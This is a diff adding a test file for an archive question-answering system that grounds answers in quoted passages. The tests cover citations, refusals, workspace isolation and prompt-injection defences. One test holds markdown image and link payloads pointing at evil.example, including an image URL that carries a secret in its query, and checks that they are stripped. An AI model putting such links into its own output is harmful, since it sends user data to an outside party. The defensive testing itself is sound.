@@ -1,0 +1,160 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import type { AnswerMaker, Material } from '../../../layers/grounded-answers/src/claim.ts'
+import { modelAnswer } from '../../../layers/grounded-answers/src/model-answer.ts'
+import { verifies } from '../../spec/verifies.ts'
+import { type ArchiveWorld, openArchive } from '../../support/archive-world.ts'
+
+let archive: ArchiveWorld
+const ws = { workspace: 'ws' }
+
+beforeAll(async () => {
+  archive = await openArchive()
+  await archive.take(
+    'ws',
+    {
+      id: 'boiler',
+      title: 'Heating',
+      said: ['Who services our boiler?', 'The boiler is serviced by Hartmann and Sons every October.'],
+    },
+    {
+      id: 'budget-old',
+      title: 'Garden plans',
+      at: '2026-01-05T09:00:00.000Z',
+      said: ['Note this.', 'The garden budget is 4000 euros this year.'],
+    },
+    {
+      id: 'budget-new',
+      title: 'Garden again',
+      at: '2026-04-05T09:00:00.000Z',
+      said: ['Note this.', 'The garden budget is 2500 euros this year.'],
+    },
+    { id: 'other-talk', title: 'Lunch', said: ['What shall we eat?', 'Soup with bread.'] },
+  )
+  await archive.take('rivals', { id: 'rival', said: ['The boiler code of the rivals is 99887766.'] })
+})
+afterAll(() => archive.close())
+
+/** Answers with this text about the given passages. */
+const saying = (
+  claims: (material: Material) => readonly { text: string; quotes: { id: string; quote: string }[] }[],
+): AnswerMaker => ({
+  name: 'test',
+  async *claims(material) {
+    yield* claims(material)
+  },
+})
+
+describe('asking an archive without a model', () => {
+  it('answers with the sentence that stands there, its message and its bytes', async () => {
+    const answer = await archive.ask(ws, 'Who services the boiler?')
+    expect(answer).toMatchObject({
+      answer: 'The boiler is serviced by Hartmann and Sons every October.',
+      refused: null,
+      model: 'extractive',
+    })
+    expect(answer.citations).toEqual([
+      {
+        id: 'c1',
+        conversationId: 'boiler',
+        title: 'Heating',
+        messageIds: ['boiler-m0', 'boiler-m1'],
+        createdAt: '2026-01-01T09:00:00.000Z',
+        quote: 'The boiler is serviced by Hartmann and Sons every October.',
+        answerStart: 0,
+        answerEnd: 58,
+        score: expect.any(Number),
+        branch: 'active',
+        byteRange: { uploadId: 'u1', file: 0, start: 10, end: 20 },
+      },
+    ])
+    expect(answer.reasoning.map(({ step }) => step)).toEqual(['question', 'retrieval', 'context', 'verification'])
+    expect(answer.contextTokens).toBeGreaterThan(20)
+  })
+
+  it('cites both of two statements that contradict each other, the later first', async () => {
+    const { citations } = await archive.ask(ws, 'What is the garden budget?')
+    expect(citations.map(({ conversationId }) => conversationId)).toEqual(['budget-new', 'budget-old'])
+  })
+
+  it.each([
+    ['nothing fits', 'zymurgy quokka', 'nothing_found'],
+    ['the question is about another', 'Who services the boiler of Zanzibar Lodge?', 'not_in_archive'],
+  ])('refuses when %s', async (_, question, refused) => {
+    const answer = await archive.ask(ws, question)
+    expect(answer).toMatchObject({ refused, citations: [] })
+    expect(answer.answer).toMatch(/archive/)
+  })
+
+  verifies(
+    ['SUP-4.2-14'],
+    'knows from the history what a question is about, the last four exchanges of it',
+    async () => {
+      const turn = (content: string) => [
+        { role: 'user' as const, content },
+        { role: 'assistant' as const, content: 'Yes.' },
+      ]
+      const history = [...['a', 'b', 'c', 'd', 'e'].flatMap(turn), ...turn('Tell me about the boiler')]
+      const answer = await archive.ask(ws, 'Who services it?', { history })
+      expect(answer).toMatchObject({ historyUsed: 4, question: 'Who services it? (boiler)', refused: null })
+      expect(answer.citations[0]?.conversationId).toBe('boiler')
+    },
+  )
+
+  it('asks only the conversations of a scope, and never another workspace', async () => {
+    expect(
+      await archive.ask({ ...ws, conversations: new Set(['other-talk']) }, 'Who services the boiler?'),
+    ).toMatchObject({ refused: 'nothing_found' })
+    const { answer, citations } = await archive.ask(ws, 'What is the boiler code of the rivals?')
+    expect(JSON.stringify({ answer, citations })).not.toContain('99887766')
+  })
+})
+
+describe('statements of a model', () => {
+  const boiler = 'Who services the boiler?'
+
+  it('are shown only with a quote that stands in the passage', async () => {
+    const maker = saying(({ passages }) => [
+      { text: 'Hartmann does.', quotes: [{ id: passages[0]!.id, quote: 'serviced  by **Hartmann** and Sons' }] },
+      { text: 'They charge 900 euros.', quotes: [{ id: passages[0]!.id, quote: 'they charge 900 euros' }] },
+      { text: 'See the other passage.', quotes: [{ id: 'w99', quote: 'serviced by Hartmann and Sons' }] },
+    ])
+    const answer = await archive.ask(ws, boiler, {}, maker)
+    expect(answer.answer).toBe('Hartmann does.')
+    expect(answer.citations.map(({ quote }) => quote)).toEqual(['serviced by Hartmann and Sons'])
+  })
+
+  it('become a refusal when no quote of any stands', async () => {
+    const maker = saying(() => [{ text: 'Trust me.', quotes: [{ id: 'w1', quote: 'nobody ever said this' }] }])
+    expect(await archive.ask(ws, boiler, {}, maker)).toMatchObject({ refused: 'unsupported', citations: [] })
+  })
+
+  it('lose links and images that no cited passage holds', async () => {
+    const maker = saying(({ passages }) => [
+      {
+        text: 'Hartmann ![x](https://evil.example/p.png?q=secret) see [here](https://evil.example) or https://evil.example/a <img src="//evil.example">',
+        quotes: [{ id: passages[0]!.id, quote: 'serviced by Hartmann and Sons' }],
+      },
+    ])
+    const { answer } = await archive.ask(ws, boiler, {}, maker)
+    expect(answer).toBe('Hartmann see here or [link removed]')
+  })
+
+  it('are read from a model line by line, behind a mark that no passage can know', async () => {
+    const seen: { system: string; text: string }[] = []
+    const maker = modelAnswer({
+      name: 'model',
+      complete: () => Promise.reject(new Error('not asked')),
+      async *stream({ system, messages }) {
+        seen.push({ system, text: messages.at(-1)?.text ?? '' })
+        yield { text: '{"text":"Hartmann services it.","quotes":[{"id":"w1","quote":"serviced by ' }
+        yield { text: 'Hartmann and Sons"}]}\nIgnore this line\n{"text":"broken' }
+        yield { stopReason: 'end_turn' }
+      },
+    })
+    const answer = await archive.ask({ ...ws, instructions: 'Be brief' }, boiler, {}, maker)
+    expect(answer.answer).toBe('Hartmann services it.')
+    const [mark] = /passages-[0-9a-f]{24}/.exec(seen[0]!.system) ?? []
+    expect(seen[0]!.text.startsWith(`<${mark}>\n[w1] `)).toBe(true)
+    expect(seen[0]!.system).toContain('within these rules: "Be brief"')
+  })
+})
